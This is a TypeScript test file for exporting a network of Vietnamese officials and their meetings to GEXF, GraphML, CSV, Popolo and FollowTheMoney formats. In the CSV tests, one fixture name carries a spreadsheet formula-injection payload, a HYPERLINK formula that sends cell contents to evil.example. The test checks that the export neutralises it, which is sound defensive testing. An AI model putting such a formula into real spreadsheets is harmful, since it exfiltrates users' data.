// The store-backed exports, written from parts as the reader yields them (two parts: a province
// and what lies in no province, one official in both), and read back by each format's tools.
import { exportChunks, EXPORT_FORMATS, type ExportFormat } from '../../src/export';
import { AN_GIANG, CENTRAL, scopeOf } from './network-fixture';
import { collect, expectInert, gexfGraph, gexfIntervals, graphmlGraph, readCsv, readFtm, readPopolo } from './read-back';

const scope = scopeOf('all', AN_GIANG, CENTRAL);
const write = (format: ExportFormat) => collect(exportChunks(format, scope));
const QUANG = 'person/an-giang/lê-hồng-quang';
const A = 'person/central/võ-văn-a';

describe('network files', () => {
  it('GEXF: HOLDS edges carry the title, the bounds with their bases and the sightings; nodes their kind, place, gender, date', async () => {
    const g = gexfGraph(await write('gexf'));
    const holds = g.edges(QUANG, 'org/an-giang/tinh-uy').filter((e) => g.getEdgeAttribute(e, 'relation') === 'HOLDS');
    expect(holds).toHaveLength(1);
    expect(g.getEdgeAttributes(holds[0])).toMatchObject({
      label: 'Bí thư', title: 'Bí thư', start: '2020-10-15', startBasis: 'DECLARED', end: '2023-02-01', endBasis: 'SUCCESSOR_SEEN',
      state: 'ENDED', firstSeen: '2021-06-09', lastSeen: '2022-12-20', weight: 2,
    });
    expect(g.getNodeAttributes(QUANG)).toMatchObject({ kind: 'PERSON', gender: 'male', place: 'An Giang' });
    expect(g.getNodeAttributes('org/an-giang/tinh-uy')).toMatchObject({ kind: 'ORGANIZATION', category: 'party-committee', level: 'PROVINCE', place: 'An Giang' });
    expect(g.getNodeAttributes('meeting/an-giang/2021-06-09/x')).toMatchObject({ kind: 'MEETING', category: 'working-session', date: '2021-06-09', label: 'Làm việc <khối> "dân vận" & MTTQ' });
    const met = g.edges(QUANG, A).filter((e) => g.getEdgeAttribute(e, 'relation') === 'MET');
    expect(met.map((e) => g.getEdgeAttributes(e))).toEqual([expect.objectContaining({ weight: 3, firstSeen: '2021-06-09', lastSeen: '2022-12-20' })]);
    // One kind of edge only (networkx reads no graph mixing directed and undirected edges).
    expect(g.everyEdge((e) => g.isDirected(e))).toBe(true);
    expect(g.edges(QUANG, 'meeting/an-giang/2021-06-09/x').map((e) => g.getEdgeAttribute(e, 'relation'))).toEqual(['CHAIRED']);
    expect(g.edges('org/an-giang/tinh-uy', 'meeting/an-giang/2021-06-09/x').map((e) => g.getEdgeAttribute(e, 'relation'))).toEqual(['TOOK_PART']);
    // The official of the centre, in both parts, is one node with his edges from both.
    expect(g.nodes().filter((n) => n === A)).toHaveLength(1);
    expect(g.edges(A, 'org/central/bo-chinh-tri')).toHaveLength(1);
  });

  it('dynamic GEXF: Gephi\'s timeline gets an interval on every dated element', async () => {
    const text = await write('gexf-dynamic');
    const t = gexfIntervals(text);
    expect(t).toMatchObject({ mode: 'dynamic', timeformat: 'date' });
    const edge = (id: string) => t.edges.find((e) => e.id === id);
    const node = (id: string) => t.nodes.find((n) => n.id === id);
    expect(edge(`${QUANG}|HOLDS|position/an-giang/tinh-uy/bi-thu`)).toMatchObject({ start: '2020-10-15', end: '2023-02-01' });
    // A tenure with no end yet stays open; a meeting is one day; one without its year is always there.
    expect(edge(`${A}|HOLDS|position/central/bo-chinh-tri/uy-vien`)).toMatchObject({ start: '2021-01-31', end: null });
    expect(node('meeting/an-giang/2022-12-20/y')).toMatchObject({ start: '2022-12-20', end: '2022-12-20' });
    expect(node('meeting/article/a4/0')).toMatchObject({ start: null, end: null });
    expect(node(QUANG)).toMatchObject({ start: '2020-10-15', end: '2023-02-01' });
    expect(edge(`${A}|MET|${QUANG}`) ?? edge(`${QUANG}|MET|${A}`)).toMatchObject({ start: '2021-06-09', end: '2022-12-20' });
    // Still a GEXF graphology (and so Gephi) reads with the same attributes as the static one.
    const g = gexfGraph(text);
    const s = gexfGraph(await write('gexf'));
    expect([g.order, g.size]).toEqual([s.order, s.size]);
  });

  it('GEXF stays whole when the store changes between its two passes (an ingest while exporting)', async () => {
    let pass = 0;
    const newcomer = { ...AN_GIANG.participations[0], personId: 'person/an-giang/new', personName: 'Người Mới', chair: false };
    const changing = {
      name: 'An Giang',
      async *parts() {
        pass++;
        yield pass === 1 ? AN_GIANG : { ...AN_GIANG, people: [...AN_GIANG.people, { id: newcomer.personId, name: newcomer.personName }], participations: [...AN_GIANG.participations, newcomer] };
      },
    };
    const g = gexfGraph(await collect(exportChunks('gexf', changing)));
    expect(pass).toBe(2);
    expect(g.hasNode(newcomer.personId)).toBe(false);
    expect(g.size).toBeGreaterThan(5);
  });

  it('GraphML: the same graph, typed attributes, one pass over the parts', async () => {
    const m = graphmlGraph(await write('graphml'));
    const s = gexfGraph(await write('gexf'));
    expect([m.order, m.size]).toEqual([s.order, s.size]);
    const holds = m.edges(QUANG, 'org/an-giang/tinh-uy').find((e) => m.getEdgeAttribute(e, 'relation') === 'HOLDS')!;
    expect(m.getEdgeAttributes(holds)).toMatchObject({ title: 'Bí thư', start: '2020-10-15', end: '2023-02-01', startBasis: 'DECLARED', endBasis: 'SUCCESSOR_SEEN', weight: 2 });
    expect(m.getNodeAttributes('meeting/an-giang/2021-06-09/x')).toMatchObject({ date: '2021-06-09', category: 'working-session' });
    expect(m.getNodeAttribute('person/an-giang/trần-thị-hương', 'gender')).toBe('female');
    expect(m.everyEdge((e) => m.isDirected(e))).toBe(true);
  });
});

describe('tables', () => {
  it('tenures: bounds, bases, state, citations and the quote; one header for all parts', async () => {
    const text = await write('csv-tenures');
    expect(text.match(/person_id,person,title/g)).toHaveLength(1);
    const { rows } = readCsv(text);
    expect(rows).toHaveLength(3);
    expect(rows.find((r) => r.person === 'Lê Hồng Quang')).toMatchObject({
      title: 'Bí thư', start: '2020-10-15', start_basis: 'DECLARED', end: '2023-02-01', end_basis: 'SUCCESSOR_SEEN', state: 'ENDED',
      citations: '2', quote: 'Bí thư Tỉnh ủy Lê Hồng Quang chủ trì.', source_urls: 'https://example.vn/a?x=1,2 https://example.vn/b',
    });
    // A value a spreadsheet would evaluate is text; the sentence with a tab inside stays as it was.
    expect(rows.find((r) => r.person === 'Trần Thị Hương')).toMatchObject({ organization: "'=Hội Nông dân", quote: "'@Chủ tịch\tHội" });
    expectInert(text);
  });

  it('meeting participation: a row per person and meeting, the payload of a name inert', async () => {
    const text = await write('csv-meetings');
    const { rows } = readCsv(text);
    expect(rows).toHaveLength(7);
    expect(rows.find((r) => r.person.includes('HYPERLINK'))!.person).toBe(`'-1+HYPERLINK("https://evil.example/?q="&A1,"xem")`);
    expectInert(text);
  });

  it('person-year-post panel: a row for each year of a tenure, cited years told from implied ones', async () => {
    const { header, rows } = readCsv(await write('csv-panel'));
    expect(header).toEqual(['person_id', 'person', 'gender', 'year', 'title', 'position_id', 'organization_id', 'organization', 'province', 'district', 'start', 'start_basis', 'end', 'end_basis', 'state', 'cited_in_year', 'source_urls']);
    const quang = rows.filter((r) => r.person_id === QUANG);
    expect(quang.map((r) => [r.year, r.cited_in_year])).toEqual([['2020', '0'], ['2021', '1'], ['2022', '2'], ['2023', '0']]);
    expect(quang[0]).toMatchObject({ gender: 'male', title: 'Bí thư', start_basis: 'DECLARED', end_basis: 'SUCCESSOR_SEEN', source_urls: 'https://example.vn/a?x=1,2 https://example.vn/b' });
    // An open tenure runs to its last evidence, not to today.
    expect(rows.filter((r) => r.person_id === A).map((r) => r.year)).toEqual(['2021']);
  });

  it('yearly co-attendance: each pair once a year with the meetings shared; a meeting without its year counts in none', async () => {
    const { rows } = readCsv(await write('csv-coattendance'));
    const pair = rows.filter((r) => [r.person_a_id, r.person_b_id].sort().join() === [A, QUANG].sort().join());
    expect(pair.map((r) => [r.year, r.meetings, r.first_date])).toEqual([['2021', '1', '2021-06-09'], ['2022', '1', '2022-12-20']]);
    expect(rows).toHaveLength(4);
    for (const r of rows) expect(r.person_a_id < r.person_b_id).toBe(true);
  });
});

describe('open data', () => {
  it('Popolo: valid against the specification\'s schema, references resolve, memberships dated with bases and sources', async () => {
    const doc = readPopolo(await write('popolo'));
    expect(doc.persons.map((p) => p.id).sort()).toEqual([...AN_GIANG.people.map((p) => p.id)].sort());
    expect(doc.persons.find((p) => p.id === 'person/an-giang/trần-thị-hương')!.gender).toBe('female');
    expect(doc.memberships.find((m) => m.person_id === QUANG)).toMatchObject({
      post_id: 'position/an-giang/tinh-uy/bi-thu', role: 'Bí thư', start_date: '2020-10-15', end_date: '2023-02-01',
      start_basis: 'DECLARED', end_basis: 'SUCCESSOR_SEEN', sources: [{ url: 'https://example.vn/a?x=1,2', note: 'Bí thư Tỉnh ủy Lê Hồng Quang chủ trì.' }, { url: 'https://example.vn/b' }],
    });
    expect(doc.posts.find((p) => p.id === 'position/an-giang/tinh-uy/bi-thu')).toMatchObject({ label: 'Bí thư, Tỉnh ủy An Giang', organization_id: 'org/an-giang/tinh-uy' });
    const meeting = doc.events.find((e) => e.id === 'meeting/an-giang/2021-06-09/x')!;
    expect(meeting).toMatchObject({ type: 'meeting', start_date: '2021-06-09', organization_id: 'org/an-giang/tinh-uy' });
    expect(meeting.attendees).toContainEqual({ person_id: QUANG, role: 'chair' });
    // A date without its year is no Popolo date: left out, the event kept.
    expect(doc.events.find((e) => e.id === 'meeting/article/a4/0')!.start_date).toBeUndefined();
    expect(doc.events.find((e) => e.id === 'event/1')).toMatchObject({ type: 'personnel', classification: 'appointed', identifier: '123-QĐ/TW', start_date: '2020-10-15' });
  });

  it('FollowTheMoney: every entity of a known schema with its required properties, lists of strings, sources and resolving references', async () => {
    const entities = readFtm(await write('ftm'));
    const of = (schema: string) => entities.filter((e) => e.schema === schema);
    expect(of('Person')).toHaveLength(4);
    expect(entities.find((e) => e.id === QUANG)!.properties.sourceUrl).toEqual(['https://example.vn/a?x=1,2', 'https://example.vn/b']);
    expect(of('PublicBody').map((e) => e.id).sort()).toEqual(['org/an-giang/tinh-uy', 'org/central/bo-chinh-tri']);
    expect(of('Organization').map((e) => e.id)).toEqual(['org/an-giang/hoi-nong-dan']);
    expect(of('Position')).toHaveLength(3);
    const occupancy = entities.find((e) => e.id === `occupancy/${QUANG}/position/an-giang/tinh-uy/bi-thu`)!;
    expect(occupancy.properties).toMatchObject({ holder: [QUANG], post: ['position/an-giang/tinh-uy/bi-thu'], startDate: ['2020-10-15'], endDate: ['2023-02-01'], status: ['ended'], sourceUrl: ['https://example.vn/a?x=1,2', 'https://example.vn/b'] });
    // An end that is only the last sighting is not an end date: the summary says so.
    const huong = entities.find((e) => e.id.startsWith('occupancy/person/an-giang/trần-thị-hương'))!;
    expect(huong.properties.endDate).toBeUndefined();
    expect(huong.properties.status).toEqual(['current']);
    expect(huong.properties.summary[0]).toMatch(/end LAST_SEEN 2024-05-01/);
    const meeting = entities.find((e) => e.id === 'meeting/an-giang/2021-06-09/x')!;
    expect(meeting.properties).toMatchObject({ date: ['2021-06-09'], organizer: [QUANG, 'org/an-giang/tinh-uy'], sourceUrl: ['https://example.vn/a?x=1,2'] });
    expect(meeting.properties.involved).toEqual(expect.arrayContaining([QUANG, A]));
  });

  it('every format writes something for an empty scope that its reader accepts', async () => {
    const empty = scopeOf('nothing');
    // FtM's JSON Lines of no entity is an empty file; every other format is a document with no items.
    for (const f of EXPORT_FORMATS.filter((x) => x !== 'ftm')) expect((await collect(exportChunks(f, empty))).length).toBeGreaterThan(0);
    expect(await collect(exportChunks('ftm', empty))).toBe('');
    expect(readPopolo(await collect(exportChunks('popolo', empty))).persons).toEqual([]);
    expect(gexfGraph(await collect(exportChunks('gexf-dynamic', empty))).order).toBe(0);
    expect(readCsv(await collect(exportChunks('csv-panel', empty))).rows).toEqual([]);
  });
});
